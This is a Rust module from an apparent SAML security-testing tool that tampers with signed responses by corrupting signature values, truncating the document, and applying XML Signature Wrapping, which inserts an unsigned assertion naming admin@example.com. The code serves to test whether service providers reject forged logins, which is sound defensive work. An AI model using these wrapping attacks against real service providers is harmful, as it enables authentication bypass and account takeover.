//! Stage 3: edits to the signed document, for scenarios whose point is a broken or abused signature
//! or a broken message. They take a [`SignedResponse`], so they can only happen after signing. An
//! edit whose target is not in the document is an error: a tamper that silently does nothing would
//! send a valid response under a broken scenario's name.

use base64::engine::general_purpose::STANDARD as BASE64;
use base64::Engine;

use super::document::{self, Canaries};
use super::edit::{apply_path_edits, PathEditError, PathEdits};
use super::sign::SignedResponse;
use crate::scenario::{TamperEdits, Wrapping};
use crate::xml::{to_document, to_document_without_declaration, Element, Node, PathMiss};

/// The NameID an attacker puts in an evil assertion, recognisable in any SP's answer.
pub const EVIL_NAME_ID: &str = "admin@example.com";

/// A tamper edit that found nothing to edit.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum TamperError {
    /// The edit's target element is not in the signed document.
    #[error("[tamper] {edit}: the document has no {target} to change{hint}")]
    NoTarget {
        /// The `[tamper]` key.
        edit: &'static str,
        /// What it looked for.
        target: &'static str,
        /// Why it may be missing.
        hint: &'static str,
    },
    /// A path edit selected nothing.
    #[error(transparent)]
    Path(#[from] PathEditError),
    /// A `[tamper.document]` path selected nothing.
    #[error("[tamper] document.{edit} \"{path}\": {miss}")]
    DocumentPath {
        /// The key in `[tamper.document]`.
        edit: &'static str,
        /// The path as written.
        path: String,
        /// How far the path got.
        miss: Box<PathMiss>,
    },
    /// `[tamper.document] comment-after`: the element's text does not start with the prefix, or is
    /// nothing more than it (so no value would be cut).
    #[error("[tamper] document.comment-after \"{path}\" = {prefix:?}: is not a proper prefix of the element's text {text:?}{hint}", hint = " (hint: set the whole value with [build] name-id or attributes)")]
    NotAPrefix {
        /// The path as written.
        path: String,
        /// The prefix asked for.
        prefix: String,
        /// The element's text.
        text: String,
    },
    /// `truncate-to` would not cut anything.
    #[error("[tamper] truncate-to = {length}: the document is only {actual} bytes long, so nothing would be cut")]
    NothingToCut {
        /// The length asked for.
        length: usize,
        /// The document's length.
        actual: usize,
    },
}

const UNSIGNED_HINT: &str = " (hint: is the part signed? see [sign] parts and --sign)";
const NO_ASSERTION_HINT: &str = " (hint: did [build] remove the assertion?)";

/// The document text after the scenario's tampering, with the default [`Canaries`].
pub fn apply_tamper(signed: SignedResponse, edits: &TamperEdits) -> Result<String, TamperError> {
    apply_tamper_with(signed, edits, &Canaries::default())
}

/// The document text after the scenario's tampering; `[tamper.document]` markup names `canaries`.
pub fn apply_tamper_with(
    signed: SignedResponse,
    edits: &TamperEdits,
    canaries: &Canaries,
) -> Result<String, TamperError> {
    let mut root = signed.root;
    let remove: Vec<_> = edits.remove.iter().collect();
    apply_path_edits(&mut root, PathEdits { stage: "tamper", set: &edits.set, text: &edits.text, remove: &remove })?;
    if let Some(value) = &edits.name_id {
        let name_id = root.descendant_mut("NameID").ok_or(TamperError::NoTarget {
            edit: "name-id",
            target: "NameID",
            hint: NO_ASSERTION_HINT,
        })?;
        name_id.set_text(value.clone());
    }
    if edits.corrupt_signature_value && corrupt_signature_values(&mut root) == 0 {
        return Err(TamperError::NoTarget {
            edit: "corrupt-signature-value",
            target: "ds:SignatureValue",
            hint: UNSIGNED_HINT,
        });
    }
    if let Some(wrapping) = edits.wrap {
        wrap(&mut root, wrapping)?;
    }
    if let Some(name) = &edits.root_element {
        root.name = name.clone();
    }
    let marked = document::mark(&mut root, &edits.document, canaries)?;
    let text = if edits.no_xml_declaration { to_document_without_declaration(&root) } else { to_document(&root) };
    let mut text = document::write(text, &marked, &edits.document, canaries);
    if let Some(length) = edits.truncate_to {
        if length >= text.len() {
            return Err(TamperError::NothingToCut { length, actual: text.len() });
        }
        let mut cut = length;
        while !text.is_char_boundary(cut) {
            cut -= 1;
        }
        text.truncate(cut);
    }
    Ok(text)
}

/// Flip bits in every SignatureValue under `element`; returns how many it changed.
fn corrupt_signature_values(element: &mut Element) -> usize {
    let mut changed = 0;
    for child in element.child_elements_mut() {
        if child.local_name() == "SignatureValue" {
            let mut bytes = BASE64.decode(child.text_content().trim()).unwrap_or_default();
            // Flipping bits keeps the length, so only the RSA check itself can notice.
            for byte in bytes.iter_mut().skip(8).take(4) {
                *byte ^= 0x5a;
            }
            child.set_text(BASE64.encode(bytes));
            changed += 1;
        } else {
            changed += corrupt_signature_values(child);
        }
    }
    changed
}

/// Signature wrapping: the signed assertion stays (so the signature verifies), but an unsigned,
/// evil assertion is where a naive SP looks.
fn wrap(root: &mut Element, wrapping: Wrapping) -> Result<(), TamperError> {
    let no_assertion = TamperError::NoTarget { edit: "wrap", target: "saml:Assertion", hint: NO_ASSERTION_HINT };
    let index = root
        .children
        .iter()
        .position(|n| matches!(n, Node::Element(e) if e.local_name() == "Assertion"))
        .ok_or(no_assertion)?;
    let Node::Element(original) = root.children[index].clone() else { unreachable!("position matched an element") };
    let mut evil = original.clone();
    evil.remove_children("Signature");
    if let Some(name_id) = evil.descendant_mut("NameID") {
        name_id.set_text(EVIL_NAME_ID);
    }
    match wrapping {
        Wrapping::AssertionInExtensions => {
            // XSW: the evil copy keeps the signed ID; the signed original hides in Extensions.
            root.children[index] = Node::Element(evil);
            let extensions = Element::new("samlp:Extensions").child(original);
            let after_issuer = root
                .children
                .iter()
                .position(|n| matches!(n, Node::Element(e) if e.local_name() == "Issuer"))
                .map_or(0, |i| i + 1);
            root.children.insert(after_issuer, Node::Element(extensions));
        }
        Wrapping::EvilAssertionFirst => {
            evil.set_attr("ID", format!("{}-evil", original.get_attr("ID").unwrap_or("_")));
            root.children.insert(index, Node::Element(evil));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn unsigned(xml: &str) -> SignedResponse {
        SignedResponse { root: crate::xml::parse(xml).unwrap() }
    }

    #[test]
    fn a_missing_target_is_an_error() {
        let bare = "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" ID=\"_r\"/>";
        let cases = [
            TamperEdits { name_id: Some("x".into()), ..TamperEdits::default() },
            TamperEdits { corrupt_signature_value: true, ..TamperEdits::default() },
            TamperEdits { wrap: Some(Wrapping::EvilAssertionFirst), ..TamperEdits::default() },
            TamperEdits { truncate_to: Some(100_000), ..TamperEdits::default() },
        ];
        for edits in cases {
            let error = apply_tamper(unsigned(bare), &edits).unwrap_err();
            assert!(error.to_string().starts_with("[tamper] "), "{error}");
        }
        assert!(apply_tamper(unsigned(bare), &TamperEdits::default()).is_ok());
    }
}
